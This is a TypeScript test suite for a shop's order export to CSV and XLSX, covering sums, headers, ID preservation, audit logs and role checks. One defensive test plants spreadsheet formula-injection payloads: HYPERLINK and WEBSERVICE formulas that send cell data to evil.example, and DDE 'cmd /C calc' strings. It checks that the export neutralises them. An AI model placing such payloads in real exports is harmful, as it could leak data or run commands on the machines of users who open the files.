/**
 * Export: the file holds exactly the filtered set (row count and sums equal the database), CSV
 * starts with the UTF-8 BOM, XLSX parses with exceljs, headers follow the language, it is
 * audited, and roles without orders.export are refused.
 */
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import JSZip from "jszip";
import { db } from "@/lib/db";
import { parseYuan } from "@/lib/money";
import { closeSyncSql, syncSql } from "@/lib/sync/sql";
import { storeTradesWork } from "@/lib/sync/store";
import type { TopTrade } from "@/lib/top";
import { presetRange } from "@/lib/time";
import { exportOrders } from "./export";
import { parseOrderFilters } from "./filters";
import { excelReads, parseCsv, streamBytes } from "@/test/csv";
import { genTrades, newTestShop, testViewer, writeTrades } from "./testing";

const NOW = new Date(Date.UTC(2026, 10, 28, 4, 0, 0));
let shopId: string;
let userId: string;
let trades: TopTrade[];

beforeAll(async () => {
  shopId = await newTestShop("导出测试店");
  // More than one keyset batch (500 trades).
  trades = genTrades({ n: 1_300, seed: 21, end: NOW, days: 30, tidPrefix: "33" });
  await writeTrades(shopId, trades);
  await writeTrades(await newTestShop("别的店"), genTrades({ n: 100, seed: 22, end: NOW, days: 30, tidPrefix: "34" }));
  userId = (await db().user.create({ data: { taobaoUserId: `export-${Date.now()}`, nick: "经理" } })).id;
}, 120_000);

afterAll(async () => {
  await closeSyncSql();
  await db().$disconnect();
});




describe(`export on ${inject("databaseProvider")}`, () => {
  const manager = () => ({ ...testViewer(shopId, "MANAGER"), userId });
  const last7 = presetRange("last7", NOW);
  const inView = (t: TopTrade) => t.created >= last7.start && t.created < last7.end && t.receiverState === "浙江省";

  it("CSV per line: BOM, Chinese headers, exactly the filtered lines, sums equal to the fen", async () => {
    const { params } = parseOrderFilters({ range: "last7", prov: "浙江省" });
    const r = await exportOrders(manager(), params, { format: "csv", per: "line", locale: "zh-CN", now: NOW });
    const buf = await streamBytes(r.stream);
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(buf.subarray(3).toString("utf8"));
    const [header, ...body] = rows;
    expect(header![0]).toBe("订单号");
    expect(header).toContain("子订单实付（元）");
    const want = trades.filter(inView);
    const wantLines = want.flatMap((t) => t.orders);
    expect(r.rows).toBe(wantLines.length);
    expect(body).toHaveLength(wantLines.length);
    const col = header!.indexOf("子订单实付（元）");
    expect(body.reduce((s, row) => s + parseYuan(row[col]!), 0)).toBe(wantLines.reduce((s, o) => s + o.paymentFen, 0));
    expect(new Set(body.map((row) => excelReads(row[0]!).text))).toEqual(new Set(want.map((t) => t.tid)));
    // Times in Asia/Shanghai (the test host runs in Los Angeles).
    const t0 = want.find((t) => t.tid === excelReads(body[0]![0]!).text)!;
    const sh = new Date(t0.created.getTime() + 8 * 3_600_000).toISOString().replace("T", " ").slice(0, 19);
    expect(body[0]![header!.indexOf("下单时间")]).toBe(sh);
    const entry = await db().auditLog.findFirstOrThrow({ where: { shopId, action: "orders.export" }, orderBy: { createdAt: "desc" } });
    expect(entry.newValue).toMatchObject({ rows: wantLines.length, format: "csv", per: "line", receiver: "none" });
    expect(JSON.stringify(entry.newValue)).toContain("last7");
  });

  it("XLSX per trade parses with exceljs: rows and paid sums equal the database; English headers", async () => {
    const { params } = parseOrderFilters({ range: "last7", prov: "浙江省" });
    const r = await exportOrders(manager(), params, { format: "xlsx", per: "trade", locale: "en", now: NOW });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await streamBytes(r.stream)) as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header[0]).toBe("Order no.");
    const payCol = header.indexOf("Paid incl. shipping (¥)") + 1;
    const want = trades.filter(inView);
    expect(sheet.rowCount - 1).toBe(want.length);
    expect(r.rows).toBe(want.length);
    let sum = 0;
    const tids = new Set<string>();
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      sum += parseYuan(String(row.getCell(payCol).value));
      tids.add(String(row.getCell(1).value));
    });
    expect(sum).toBe(want.reduce((s, t) => s + t.paymentFen, 0));
    expect(tids).toEqual(new Set(want.map((t) => t.tid)));
  });

  it("exports every batch of an unfiltered view, and only this shop's trades", async () => {
    const r = await exportOrders(manager(), parseOrderFilters({}).params, { format: "csv", per: "trade", locale: "zh-CN", now: NOW });
    const rows = parseCsv((await streamBytes(r.stream)).subarray(3).toString("utf8")).slice(1);
    expect(rows).toHaveLength(1_300);
    expect(new Set(rows.map((x) => x[0])).size).toBe(1_300);
    expect(rows.every((x) => excelReads(x[0]!).text.startsWith("33"))).toBe(true);
  });

  it("neutralises formula injection in CSV text cells (hostile memo, titles, SKU, outer id, nick), keeps numbers numbers, and XLSX typed as strings", async () => {
    const shop = await newTestShop("公式注入店");
    const [a, b] = genTrades({ n: 2, seed: 23, end: NOW, days: 2, tidPrefix: "35" });
    const hostile = {
      memo: `=HYPERLINK("http://evil.example/?d="&A2,"点我查看")`,
      title: `+cmd|' /C calc'!A0`,
      sku: `-2+3+cmd|' /C calc'!A0`,
      outer: `@SUM(1+1)*cmd|' /C calc'!A0`,
      nick: "\t=1+1",
      city: "\r=1+1",
      message: `=WEBSERVICE("http://evil.example/"&A2)`,
    };
    a!.sellerMemo = hostile.memo;
    a!.buyerMessage = hostile.message;
    a!.hasBuyerMessage = true;
    a!.buyerNick = hostile.nick;
    a!.receiverCity = hostile.city;
    a!.adjustFeeFen = -1250;
    a!.orders = [{ ...a!.orders[0]!, title: hostile.title, skuPropertiesName: hostile.sku, outerIid: hostile.outer }];
    b!.sellerMemo = "'已是文本 = 不变";
    const sql = await syncSql();
    await sql.tx(() => storeTradesWork(sql.dialect, { shopId: shop, trades: [a!, b!].map((trade) => ({ trade, rawJson: JSON.stringify({ tid: trade.tid }), source: "detail" as const })), leaseOwner: null, now: new Date() }));
    const owner = { ...testViewer(shop, "OWNER"), userId };
    const all = parseOrderFilters({}).params;
    const TRIGGER = /^[=+\-@\t\r]/;

    for (const per of ["line", "trade"] as const) {
      const raw = (await streamBytes((await exportOrders(owner, all, { format: "csv", per, locale: "zh-CN", now: NOW })).stream)).subarray(3).toString("utf8");
      const [header, ...body] = parseCsv(raw);
      const row = body.find((r) => r[0] === `="${a!.tid}"`)!;
      const cell = (name: string) => row[header!.indexOf(name)];
      expect(cell("卖家备注")).toBe(`'${hostile.memo}`);
      expect(cell("买家昵称")).toBe(`'${hostile.nick}`);
      expect(cell("收货城市")).toBe(`'${hostile.city}`);
      if (per === "line") {
        expect([cell("宝贝标题"), cell("SKU"), cell("商家编码")]).toEqual([`'${hostile.title}`, `'${hostile.sku}`, `'${hostile.outer}`]);
      } else {
        expect(cell("宝贝")!.startsWith(`'${hostile.title}`)).toBe(true);
        // A negative amount in a money column is a number: never prefixed.
        expect(cell("改价（元）")).toBe("-12.50");
      }
      // Each neutralised cell stays quoted in the file (its quotes doubled inside).
      expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点我查看"")"`);
      expect(raw).toContain(`"'\t=1+1"`);
      // No text cell of the file begins a formula but the ids' ="<digits>" (a string literal); a benign leading quote is left alone.
      const numeric = ["单价（元）", "子订单实付（元）", "商品总额（元）", "运费（元）", "优惠（元）", "改价（元）", "实付（元，含运费）", "数量", "宝贝件数"].map((h) => header!.indexOf(h));
      expect(header!.some((c) => TRIGGER.test(c))).toBe(false);
      for (const r of body) r.forEach((c, i) => expect(numeric.includes(i) ? /^-?\d+(\.\d+)?$/.test(c) : !TRIGGER.test(c) || /^="\d+"$/.test(c), `${i}: ${JSON.stringify(c)}`).toBe(true));
      expect(body.find((r) => r[0] === `="${b!.tid}"`)![header!.indexOf("卖家备注")]).toBe("'已是文本 = 不变");
      // The buyer message is not an export column: it reaches no file.
      expect(raw).not.toContain("WEBSERVICE");
    }

    const file = await streamBytes((await exportOrders(owner, all, { format: "xlsx", per: "trade", locale: "zh-CN", now: NOW })).stream);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    let found = 0;
    sheet.eachRow((row, n) => {
      row.eachCell((c) => expect(c.type, `${n}:${c.address}`).not.toBe(ExcelJS.ValueType.Formula));
      if (row.getCell(1).value !== a!.tid) return;
      found++;
      const c = (name: string) => row.getCell(header.indexOf(name) + 1);
      // Typed string cells holding the text exactly (no prefix in XLSX), numbers as numbers.
      // (XML reads a bare carriage return as a line feed: the city's \r comes back as \n.)
      for (const [name, want] of [["卖家备注", hostile.memo], ["买家昵称", hostile.nick], ["收货城市", "\n=1+1"]] as const) {
        expect([c(name).type, c(name).value]).toEqual([ExcelJS.ValueType.String, want]);
      }
      expect([c("改价（元）").type, c("改价（元）").value]).toEqual([ExcelJS.ValueType.Number, -12.5]);
    });
    expect(found).toBe(1);
    // The sheet's XML holds no formula element at all.
    const zip = await JSZip.loadAsync(file);
    const xml = await zip.file(/xl\/worksheets\/sheet\d+\.xml/)[0]!.async("string");
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it("every id survives Excel: CSV id cells are =\"…\" text (a bare 19-digit tid would not be), XLSX id cells are text", async () => {
    const shop = await newTestShop("编号测试店");
    const [a] = genTrades({ n: 1, seed: 24, end: NOW, days: 1, tidPrefix: "30721" });
    const waybill = "000731000000123";
    a!.orders = [{ ...a!.orders[0]!, outerIid: "007", invoiceNo: waybill, logisticsCompany: "圆通速递" }];
    const sql = await syncSql();
    await sql.tx(() => storeTradesWork(sql.dialect, { shopId: shop, trades: [{ trade: a!, rawJson: JSON.stringify({ tid: a!.tid }), source: "detail" as const }], leaseOwner: null, now: new Date() }));
    const owner = { ...testViewer(shop, "OWNER"), userId };
    const all = parseOrderFilters({}).params;
    const ids = { 订单号: a!.tid, 子订单号: a!.orders[0]!.oid, 运单号: waybill, 商家编码: "007" };
    // The control: written bare, Excel would lose digits of each of these.
    for (const id of Object.values(ids)) expect(excelReads(id)).not.toEqual({ type: "text", text: id });

    const raw = (await streamBytes((await exportOrders(owner, all, { format: "csv", per: "line", locale: "zh-CN", now: NOW })).stream)).subarray(3).toString("utf8");
    const [header, row] = parseCsv(raw);
    for (const [name, id] of Object.entries(ids)) {
      const cell = row![header!.indexOf(name)]!;
      expect(cell, name).toBe(`="${id}"`);
      expect(excelReads(cell), name).toEqual({ type: "text", text: id });
    }
    // In the file itself the cell is quoted, its quotes doubled (RFC 4180).
    expect(raw).toContain(`"=""${a!.tid}"""`);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await streamBytes((await exportOrders(owner, all, { format: "xlsx", per: "line", locale: "zh-CN", now: NOW })).stream)) as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const head = (sheet.getRow(1).values as unknown[]).slice(1);
    for (const [name, id] of Object.entries(ids)) {
      const cell = sheet.getRow(2).getCell(head.indexOf(name) + 1);
      expect([cell.type, cell.value, cell.numFmt], name).toEqual([ExcelJS.ValueType.String, id, "@"]);
    }
  });

  it("receiver columns, masked: what the cache holds, for a manager too, with no reveal taken", async () => {
    const { params } = parseOrderFilters({ range: "last7", prov: "浙江省" });
    const before = await db().rateLimitEvent.count({ where: { userId, action: "reveal" } });
    const r = await exportOrders(manager(), params, { format: "csv", per: "trade", locale: "zh-CN", receiver: "masked", now: NOW });
    const [header, ...body] = parseCsv((await streamBytes(r.stream)).subarray(3).toString("utf8"));
    const at = header!.indexOf("收货区县");
    expect(header!.slice(at + 1, at + 4)).toEqual(["收件人", "收件人手机", "详细地址"]);
    const want = trades.filter(inView);
    expect(body).toHaveLength(want.length);
    for (const row of body) {
      const t = want.find((x) => x.tid === excelReads(row[0]!).text)!;
      expect(row.slice(at + 1, at + 3)).toEqual([t.receiverName ?? "", t.receiverMobile ?? ""]);
    }
    expect(await db().rateLimitEvent.count({ where: { userId, action: "reveal" } })).toBe(before);
    const entry = await db().auditLog.findFirstOrThrow({ where: { shopId, action: "orders.export" }, orderBy: { createdAt: "desc" } });
    expect(entry.newValue).toMatchObject({ receiver: "masked", rows: want.length });
    // Without the option there are no receiver columns at all.
    const plain = parseCsv((await streamBytes((await exportOrders(manager(), params, { format: "csv", per: "trade", locale: "zh-CN", now: NOW })).stream)).subarray(3).toString("utf8"))[0]!;
    expect(plain).not.toContain("收件人");
  });

  it("full receivers are refused to a role that may not reveal (a manager), before anything is counted", async () => {
    const before = await db().rateLimitEvent.count({ where: { userId } });
    const e = await exportOrders(manager(), parseOrderFilters({}).params, { format: "csv", per: "trade", locale: "zh-CN", receiver: "full", now: NOW }).then(() => null, (x: unknown) => x);
    expect(e).toMatchObject({ code: "forbidden" });
    expect(await db().rateLimitEvent.count({ where: { userId } })).toBe(before);
  });

  it("refuses customer service", async () => {
    await expect(exportOrders({ ...testViewer(shopId, "CUSTOMER_SERVICE"), userId }, parseOrderFilters({}).params, { format: "csv", per: "line", locale: "zh-CN" })).rejects.toMatchObject({ code: "forbidden" });
  });
});
